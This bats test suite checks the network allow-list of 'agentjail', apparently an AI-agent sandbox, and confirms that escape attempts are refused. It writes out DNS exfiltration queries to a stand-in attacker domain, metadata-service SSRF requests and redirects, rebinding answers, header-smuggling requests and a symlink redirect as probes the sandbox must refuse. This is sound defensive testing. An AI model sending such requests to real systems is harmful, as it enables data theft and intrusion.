#!/usr/bin/env bats
# Allow-list mode (--allow), --publish and --net-log, in a fake world
# (world.bash): the "internet" has web servers on TEST-NET addresses, a fake
# resolver on 192.0.2.53 that is also the attacker's authoritative server for
# *.evil.test and logs every query it receives. Nothing here sends a packet
# to a real address.

load ../integration/helpers
load world

setup_file() { world_setup_file; }
setup() { world_setup; }
teardown() { world_teardown; }

# agentjail in allow-list mode with the fake resolver as upstream
arun() {
    run --separate-stderr hrun --dns 192.0.2.53 "$@"
}

# The sandbox's resolver (its gateway), from inside: $NS in sh -c scripts.
NS='$(sed -n "s/^nameserver //p" /etc/resolv.conf)'

@test "--allow: an HTTP GET through the proxy works, other hosts are refused by it" {
    arun --allow allowed.test -- sh -c \
        'curl -sS -m 5 http://allowed.test/; echo "other: $(curl -s -m 5 -o /dev/null -w "%{http_code}" http://other.test/)"'
    assert_status 0
    assert_output_has_line inet-ok
    assert_output_has_line "other: 403"
    [ "$(dns_seen '^other\.test')" -eq 0 ] || fail "other.test was asked upstream"
}

@test "--allow: the resolver answers allowed names only and never forwards the others" {
    arun --allow allowed.test --allow '*.wild.test' -- sh -c "
        for n in allowed.test sub.wild.test deep.sub.wild.test wild.test secret-a.evil.test \
                 allowed.test.evil.test notallowed.test evil.test x.allowed.test; do
            echo \"\$n \$(python3 /dnsq.py $NS \$n | tr '\n' ' ')\"
        done
        echo \"tcp \$(python3 /dnsq.py --tcp $NS allowed.test | tr '\n' ' ')\"
        echo \"tcp-refused \$(python3 /dnsq.py --tcp $NS secret-t.evil.test | tr '\n' ' ')\"
        # TXT, MX and AAAA queries of a disallowed name are not forwarded either
        python3 /dnsq.py $NS secret-b.evil.test 16; python3 /dnsq.py $NS secret-c.evil.test 15
        python3 /dnsq.py $NS secret-d.evil.test 28"
    assert_status 0
    assert_output_has_line "allowed.test rcode=0 192.0.2.10 ttl=60 "
    assert_output_has_line "sub.wild.test rcode=0 192.0.2.10 ttl=60 "
    assert_output_has_line "deep.sub.wild.test rcode=0 203.0.113.10 ttl=60 "
    assert_output_has_line "tcp rcode=0 192.0.2.10 ttl=60 "
    assert_output_has_line "tcp-refused rcode=5 "
    local n
    for n in wild.test secret-a.evil.test allowed.test.evil.test notallowed.test evil.test x.allowed.test; do
        assert_output_has_line "$n rcode=5 "
    done
    # the attacker's server saw nothing at all of evil.test; upstream got
    # exactly the allowed names
    [ "$(dns_seen 'evil\.test')" -eq 0 ] || { cat "$DNS_LOG"; fail "a disallowed name reached the attacker's server"; }
    [ "$(dns_seen '^(wild|notallowed|x\.allowed)\.test')" -eq 0 ] || fail "a disallowed name went upstream"
    [ "$(dns_seen '^allowed\.test 1$')" -ge 1 ] || fail "allowed.test was not resolved upstream"
}

@test "--allow: DNS exfiltration around the resolver is refused and never seen" {
    # straight to the attacker's server, over UDP and TCP, and to a public-looking resolver
    arun --allow allowed.test -- sh -c '
        python3 /dnsq.py 192.0.2.53 exfil-1.evil.test; echo "udp rc=$?"
        python3 /probe.py tcp53=192.0.2.53:53 other53=203.0.113.10:53'
    assert_status 0
    assert_output_has_line "timeout"
    assert_refused tcp53
    assert_refused other53
    [ "$(dns_seen 'evil\.test')" -eq 0 ] || fail "the attacker's server saw a query"
}

@test "--allow: rebinding answers into refused ranges are dropped" {
    arun --allow rebind.allowed.test --allow lan.allowed.test --allow loop.allowed.test -- sh -c "
        for n in rebind.allowed.test lan.allowed.test loop.allowed.test; do
            echo \"\$n \$(python3 /dnsq.py $NS \$n | tr '\n' ' ')\"
        done
        echo \"proxy-lan \$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://lan.allowed.test/)\"
        echo \"proxy-loop \$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://loop.allowed.test/)\"
        python3 /probe.py meta=169.254.169.254:80 lan=10.0.0.5:80"
    assert_status 0
    assert_output_has_line "rebind.allowed.test rcode=0 192.0.2.10 ttl=60 "
    assert_output_has_line "lan.allowed.test rcode=0 "
    assert_output_has_line "loop.allowed.test rcode=0 "
    assert_output_has_line "proxy-lan 502"
    assert_output_has_line "proxy-loop 502"
    assert_refused meta
    assert_refused lan
}

@test "--allow: direct connections only to just-resolved addresses on allowed ports" {
    arun --allow allowed.test --allow 'www.allowed.test:8443' -- sh -c "
        python3 /probe.py before=192.0.2.10:80
        python3 /dnsq.py $NS allowed.test >/dev/null; python3 /dnsq.py $NS www.allowed.test >/dev/null
        python3 /probe.py http=192.0.2.10:80 https=192.0.2.10:443 other-port=192.0.2.10:8443 \
            www-8443=203.0.113.10:8443 www-80=203.0.113.10:80 meta=169.254.169.254:80 gw=\$(ip route show default | cut -d' ' -f3):8080
        # UDP other than DNS to the resolver, and ICMP, are refused
        python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((\"192.0.2.10\", 80)); s.send(b\"x\"); s.recv(10)' 2>&1 | tail -1"
    assert_status 0
    assert_refused before
    assert_served http inet-ok
    assert_served https inet-ok
    assert_refused other-port
    assert_served www-8443 inet-ok
    assert_refused www-80
    assert_refused meta
    assert_refused gw
    [[ "$output" == *"ConnectionRefusedError"* || "$output" == *"unreachable"* || "$output" == *"No route"* || "$output" == *"Errno 113"* ]] ||
        fail "UDP to the internet was not refused: $output"
}

@test "--allow: the proxy matches exact labels and refuses tricks" {
    arun --allow allowed.test -- sh -c '
        code() { curl -s -m 5 -o /dev/null -w "%{http_code}" "$@"; }
        echo "exact $(code http://allowed.test/)"
        echo "upper $(code http://ALLOWED.TEST/)"
        echo "suffix $(code http://notallowed.test/)"
        echo "longer $(code http://allowed.test.evil.test/)"
        echo "userinfo $(code "http://allowed.test@evil.test/")"
        echo "trailing-dot $(code http://allowed.test./)"
        echo "ip-literal $(code http://192.0.2.10/)"
        echo "decimal $(code http://3221225994/)"
        echo "meta $(code http://169.254.169.254/latest/meta-data/)"
        tunnel() { curl -s -m 5 -p -o /dev/null -w "%{http_connect}" "$@"; }
        echo "connect-443 $(tunnel http://allowed.test:443/)"
        echo "connect-8443 $(tunnel http://allowed.test:8443/)"
        echo "connect-22 $(tunnel http://allowed.test:22/)"
        # a Host header naming another server than the URL
        echo "host-mismatch $(code -H "Host: evil.test" http://allowed.test/host)"
        # raw requests the clients would not send
        raw() { printf "$1" | python3 -c "import socket,sys; s=socket.create_connection((sys.argv[1], 3128)); s.sendall(sys.stdin.buffer.read()); print(s.recv(100).split(b\"\\r\\n\")[0].decode())" "$(sed -n "s/^nameserver //p" /etc/resolv.conf)"; }
        echo "raw-connect-userinfo $(raw "CONNECT allowed.test@evil.test:443 HTTP/1.1\r\n\r\n")"
        echo "raw-connect-noport $(raw "CONNECT allowed.test HTTP/1.1\r\n\r\n")"
        echo "raw-two-hosts $(raw "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n")"
        echo "raw-origin $(raw "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")"
        echo "raw-garbage $(raw "\x16\x03\x01garbage\r\n\r\n")"'
    assert_status 0
    assert_output_has_line "exact 200"
    assert_output_has_line "upper 200" # DNS names are case-insensitive: the same host
    assert_output_has_line "trailing-dot 200" # one trailing dot: the same (absolute) name
    local k
    for k in suffix longer userinfo ip-literal decimal meta connect-8443 connect-22; do
        assert_output_has_line "$k 403"
    done
    assert_output_has_line "connect-443 200"
    assert_output_has_line "host-mismatch 400"
    assert_output_has_line "raw-connect-userinfo HTTP/1.1 400 Bad Request"
    assert_output_has_line "raw-connect-noport HTTP/1.1 400 Bad Request"
    assert_output_has_line "raw-two-hosts HTTP/1.1 400 Bad Request"
    assert_output_has_line "raw-origin HTTP/1.0 200 OK" # Python's server answers 1.0
    assert_output_has_line "raw-garbage HTTP/1.1 400 Bad Request"
    [ "$(dns_seen 'evil\.test')" -eq 0 ] || fail "the proxy resolved a refused name"
}

@test "--allow: a redirect to the metadata server is refused, through the proxy and without" {
    arun --allow allowed.test -- sh -c '
        echo "proxy $(curl -s -m 5 -L -o /dev/null -w "%{http_code}" "http://allowed.test/redirect?to=http://169.254.169.254/latest/")"
        curl -s -m 5 -L --noproxy "*" "http://allowed.test/redirect?to=http://169.254.169.254/latest/"; echo "direct rc=$?"
        echo "lan $(curl -s -m 5 -L -o /dev/null -w "%{http_code}" "http://allowed.test/redirect?to=http://10.0.0.5/")"'
    assert_status 0
    assert_output_has_line "proxy 403"
    assert_output_has_line "direct rc=7"
    assert_output_has_line "lan 403"
}

@test "--allow CIDR[:PORT]: addresses without DNS, through the proxy and direct" {
    arun --allow 203.0.113.0/24:8443 -- sh -c '
        echo "proxy $(curl -s -m 5 -p -o /dev/null -w "%{http_connect}" http://203.0.113.10:8443/)"
        echo "proxy-80 $(curl -s -m 5 -o /dev/null -w "%{http_code}" http://203.0.113.10/)"
        python3 /probe.py direct=203.0.113.10:8443 direct-80=203.0.113.10:80 other=192.0.2.10:8443'
    assert_status 0
    assert_output_has_line "proxy 200"
    assert_output_has_line "proxy-80 403"
    assert_served direct inet-ok
    assert_refused direct-80
    assert_refused other
}

@test "--allow: set elements carry the DNS TTL (at least 30 s)" {
    hrun --dns 192.0.2.53 --allow allowed.test --allow short.allowed.test -- sh -c "
        python3 /dnsq.py $NS allowed.test; python3 /dnsq.py $NS short.allowed.test; touch /workspace/asked
        i=0; while [ ! -e /workspace/done ] && [ \$i -lt 200 ]; do sleep 0.05; i=\$((i + 1)); done" >"$T/out" &
    AJ_BG_PID=$!
    local i
    for ((i = 0; i < 200; i++)); do [ -e "$WS/asked" ] && break; sleep 0.05; done
    [ -e "$WS/asked" ] || fail "no query"
    local set
    set=$(ip netns exec "$HNS" nft list ruleset | sed -n '/set allow4/,/}/p')
    touch "$WS/done" # the sandbox held its set until now (was a fixed sleep 5)
    wait "$AJ_BG_PID"
    AJ_BG_PID=
    [[ "$set" == *"192.0.2.10 . 80 timeout 1m"* ]] || fail "allowed.test: $set"
    [[ "$set" == *"198.51.100.77 . 443 timeout 30s"* ]] || fail "short TTL: $set"
    grep -q "198.51.100.77 ttl=1" "$T/out" || fail "the client got another TTL: $(cat "$T/out")"
}

@test "--net-log: JSON lines of DNS queries, proxy requests and direct connections" {
    arun --allow allowed.test --net-log "$T/net.jsonl" -- sh -c "
        python3 /dnsq.py $NS allowed.test >/dev/null; python3 /dnsq.py $NS secret.evil.test >/dev/null
        curl -s -m 5 -o /dev/null http://allowed.test/; curl -s -m 5 -o /dev/null http://other.test/
        python3 /probe.py ok=192.0.2.10:80 no=203.0.113.10:80 >/dev/null"
    assert_status 0
    jq -e . "$T/net.jsonl" >/dev/null || fail "not JSON lines: $(cat "$T/net.jsonl")"
    q() { jq -c "select($1)" "$T/net.jsonl" | wc -l; }
    [ "$(q '.event == "dns" and .name == "allowed.test" and .verdict == "allowed" and .addresses == ["192.0.2.10"]')" -ge 1 ] || fail "dns allowed"
    [ "$(q '.event == "dns" and .name == "secret.evil.test" and .verdict == "refused"')" -eq 1 ] || fail "dns refused"
    [ "$(q '.event == "proxy" and .host == "allowed.test" and .verdict == "allowed" and .address == "192.0.2.10"')" -eq 1 ] || fail "proxy allowed"
    [ "$(q '.event == "proxy" and .host == "other.test" and .verdict == "refused" and .status == 403')" -eq 1 ] || fail "proxy refused"
    [ "$(q '.event == "connect" and .address == "192.0.2.10" and .port == 80 and .verdict == "allowed"')" -ge 1 ] || fail "connect allowed"
    [ "$(q '.event == "connect" and .address == "203.0.113.10" and .port == 80 and .verdict == "refused"')" -ge 1 ] || fail "connect refused"
    [ "$(q 'has("time") | not')" -eq 0 ] || fail "a line without time"
}

@test "--net-log with --net open logs every new connection" {
    run --separate-stderr hrun --net open --net-log "$T/open.jsonl" -- python3 /probe.py web=192.0.2.10:80 meta=169.254.169.254:80
    assert_status 0
    [ "$(jq -c 'select(.event == "connect" and .address == "192.0.2.10" and .verdict == "allowed")' "$T/open.jsonl" | wc -l)" -ge 1 ] || fail "$(cat "$T/open.jsonl")"
    [ "$(jq -c 'select(.event == "connect" and .address == "169.254.169.254" and .verdict == "refused")' "$T/open.jsonl" | wc -l)" -ge 1 ] || fail "$(cat "$T/open.jsonl")"
}

@test "--publish: a server in the sandbox is reachable on the host's 127.0.0.1 only" {
    local port=$((20000 + RANDOM % 20000))
    hrun --publish "$port:8000" -- sh -c 'python3 -m http.server -b 127.0.0.1 -d /workspace 8000 >/dev/null 2>&1 &
        echo served-from-sandbox >/workspace/index.html
        while [ ! -e /workspace/done ]; do sleep 0.05; done' &
    AJ_BG_PID=$!
    local body
    wait_published "$port"
    # only on loopback: the host's public address does not serve it
    local public
    public=$(ip netns exec "$HNS" curl -s -m 1 -o /dev/null -w "%{http_code}" "http://198.51.100.2:$port/" || true)
    touch "$WS/done"
    wait "$AJ_BG_PID"
    AJ_BG_PID=
    assert_eq "$body" served-from-sandbox "GET 127.0.0.1:$port"
    assert_eq "$public" 000 "GET on the host's public address"
}

@test "--publish: a busy host port is a clear error; bad values are refused" {
    local port=$((20000 + RANDOM % 20000))
    ip netns exec "$HNS" python3 -c "import socket,time; s=socket.socket(); s.bind(('127.0.0.1', $port)); s.listen(); time.sleep(30)" &
    local holder=$! i
    for ((i = 0; i < 100; i++)); do
        ip netns exec "$HNS" ss -ltnH "sport = :$port" | grep -q . && break
        sleep 0.05
    done
    run --separate-stderr hrun --publish "$port:80" -- true
    kill "$holder"
    wait "$holder" || true
    assert_status 125
    assert_one_error_line
    [[ "$stderr" == *"127.0.0.1:$port"* ]] || fail "$stderr"
    for bad in 0:80 80:0 80 x:80 70000:80 80:80:80; do
        run --separate-stderr hrun --publish "$bad" -- true
        assert_status 125
        assert_one_error_line
    done
    # the relays' stall bound (docs/levels.md, "Relays that stall")
    for bad in 5 x 3600001; do
        AGENTJAIL_RELAY_STALL_MS=$bad run --separate-stderr hrun --publish "$port:80" -- true
        assert_status 125
        assert_one_error_line
        assert_contains "$stderr" AGENTJAIL_RELAY_STALL_MS
    done
}

@test "bad --allow / --dns / --net-log flags fail with one clear line and change nothing" {
    local bad
    for bad in 'exa mple.com' 'allowed.test..' '3221225994' '0300.0.2.012' '*.com' '*' 'a..b' 'x.test:0' 'x.test:99999' \
        '10.0.0.0/8' '169.254.169.254' '127.0.0.1:80' '[::1]:80' '2001:db8::/32' 'http://x.test' \
        'user@x.test' '-x.test'; do
        run --separate-stderr hrun --allow "$bad" -- true
        assert_status 125
        assert_one_error_line
    done
    run --separate-stderr hrun --allow allowed.test --net open -- true
    assert_status 125
    assert_one_error_line
    run --separate-stderr hrun --dns 192.0.2.53 -- true
    assert_status 125
    assert_one_error_line
    run --separate-stderr hrun --allow allowed.test --dns resolver.example -- true
    assert_status 125
    assert_one_error_line
    run --separate-stderr hrun --net open --net-log relative.jsonl -- true
    assert_status 125
    assert_one_error_line
    run --separate-stderr timeout 20 setpriv --reuid=65534 --regid=65534 --clear-groups \
        "$AJ_REAL" run --quiet --allow allowed.test -- true
    assert_status 125
    assert_one_error_line
    [[ "$stderr" == *"needs root"* ]] || fail "no reason: $stderr"
}

@test "--allow: after SIGKILL of agentjail, netd is gone and the next start cleans up" {
    hrun --allow allowed.test -- sleep 60 &
    AJ_BG_PID=$!
    local i pid=""
    for ((i = 0; i < 200; i++)); do
        pgrep -x agentjail-netd >/dev/null && ip netns exec "$HNS" nft list tables 2>/dev/null | grep -q agentjail- && break
        sleep 0.05
    done
    pid=$(head -n1 "$AJ_PIDS_FILE")
    [ -n "$pid" ] || fail "no agentjail pid"
    local netd
    netd=$(pgrep -P "$pid" -x agentjail-netd) || fail "no netd child of $pid"
    # netd parses what the sandbox sends: it runs as nobody with
    # CAP_NET_ADMIN (0x1000) only, and no_new_privs
    local status
    status=$(cat "/proc/$netd/status")
    [[ "$status" == *$'\nUid:\t65534\t65534\t65534\t65534'* ]] || fail "netd uid: $(grep Uid <<<"$status")"
    [[ "$status" == *$'\nCapEff:\t0000000000001000'* ]] || fail "netd caps: $(grep Cap <<<"$status")"
    [[ "$status" == *$'\nCapBnd:\t0000000000001000'* ]] || fail "netd bounding set: $(grep Cap <<<"$status")"
    [[ "$status" == *$'\nNoNewPrivs:\t1'* ]] || fail "netd no_new_privs"
    [[ "$status" == *$'\nSeccomp:\t2'* ]] || fail "netd has no seccomp filter"
    kill -KILL "$pid"
    wait "$AJ_BG_PID" || true
    AJ_BG_PID=
    for ((i = 0; i < 50; i++)); do kill -0 "$netd" 2>/dev/null || break; sleep 0.05; done
    ! kill -0 "$netd" 2>/dev/null || fail "netd outlived agentjail"
    run --separate-stderr hrun --allow allowed.test -- true
    assert_status 0
    assert_world_clean
}

@test "--publish works for an unprivileged caller with --net none" {
    local port=$((20000 + RANDOM % 20000))
    timeout -k 5 "$AJ_TIMEOUT" nsenter --net="/run/netns/$HNS" setpriv --reuid=65534 --regid=65534 --clear-groups \
        "$AJ_REAL" run --quiet --limits best-effort --publish "$port:8000" -- sh -c 'cd /tmp && echo unpriv-ok >index.html &&
        python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 &
        sleep 30' &
    AJ_BG_PID=$!
    local body
    wait_published "$port"
    kill -TERM "$AJ_BG_PID" 2>/dev/null || true
    wait "$AJ_BG_PID" || true
    AJ_BG_PID=
    assert_eq "$body" unpriv-ok "GET 127.0.0.1:$port"
}

@test "--allow with --rootfs: the image's resolv.conf names the resolver, a symlink can't redirect the write" {
    local R=$T/rootfs
    mkdir -p "$R/bin" "$R/etc"
    cp "$PROBE" "$R/bin/probe"
    echo "host file" >"$T/victim"
    ln -s "$T/victim" "$R/etc/resolv.conf" # absolute: a host path if followed outside
    chmod -R a+rX "$R"
    run --separate-stderr timeout -k 5 "$AJ_TIMEOUT" nsenter --net="/run/netns/$HNS" \
        "$AJ" run --dns 192.0.2.53 --allow allowed.test --rootfs "$R" -- /bin/probe read /etc/resolv.conf
    assert_status 0
    [[ "$output" == *"nameserver 10.200."* ]] || fail "resolv.conf inside: $output"
    assert_eq "$(cat "$T/victim")" "host file" "the host file behind the symlink"
    [ -L "$R/etc/resolv.conf" ] || fail "the rootfs itself was changed"
}

@test "--allow: the proxy never reaches the host's own addresses, even inside an allowed CIDR" {
    # 198.51.100.2 is the host netns' own address; the CIDR allows it by range
    arun --allow 198.51.100.0/24:8080 -- sh -c '
        echo "host-public $(curl -s -m 5 -p -o /dev/null -w "%{http_connect}" http://198.51.100.2:8080/)"
        echo "host-public-get $(curl -s -m 5 -o /dev/null -w "%{http_code}" http://198.51.100.2:8080/)"
        python3 /probe.py direct=198.51.100.2:8080'
    assert_status 0
    assert_output_has_line "host-public 403"
    assert_output_has_line "host-public-get 403"
    assert_refused direct
}

@test "--allow: folded or CR-smuggling headers are refused by the proxy" {
    arun --allow allowed.test -- sh -c '
        raw() { printf "$1" | python3 -c "import socket,sys; s=socket.create_connection((sys.argv[1], 3128)); s.sendall(sys.stdin.buffer.read()); print(s.recv(100).split(b\"\\r\\n\")[0].decode())" "$(sed -n "s/^nameserver //p" /etc/resolv.conf)"; }
        echo "folded $(raw "GET http://allowed.test/ HTTP/1.1\r\nX-A: a\r\n\tb\r\nHost: allowed.test\r\n\r\n")"
        echo "plain $(raw "GET http://allowed.test/ HTTP/1.1\r\n\r\n")"'
    assert_status 0
    assert_output_has_line "folded HTTP/1.1 400 Bad Request"
    assert_output_has_line "plain HTTP/1.0 200 OK" # no Host header: the proxy adds it
}

@test "--publish next to --allow: a forwarder of its own, without capabilities" {
    local port=$((20000 + RANDOM % 20000))
    hrun --dns 192.0.2.53 --allow allowed.test --publish "$port:8000" -- sh -c \
        'python3 -m http.server -b 127.0.0.1 -d /workspace 8000 >/dev/null 2>&1 &
        echo pub-and-allow >/workspace/index.html
        while [ ! -e /workspace/done ]; do sleep 0.05; done' &
    AJ_BG_PID=$!
    local body
    wait_published "$port"
    local pub status
    pub=$(pgrep -x agentjail-pub | head -1)
    status=$(cat "/proc/$pub/status" 2>/dev/null || true)
    touch "$WS/done"
    wait "$AJ_BG_PID"
    AJ_BG_PID=
    assert_eq "$body" pub-and-allow "GET 127.0.0.1:$port"
    [[ "$status" == *$'\nCapEff:\t0000000000000000'* ]] || fail "forwarder caps: $(grep Cap <<<"$status")"
    [[ "$status" == *$'\nUid:\t65534'* ]] || fail "forwarder uid: $(grep Uid <<<"$status")"
    [[ "$status" == *$'\nSeccomp:\t2'* ]] || fail "forwarder seccomp"
}
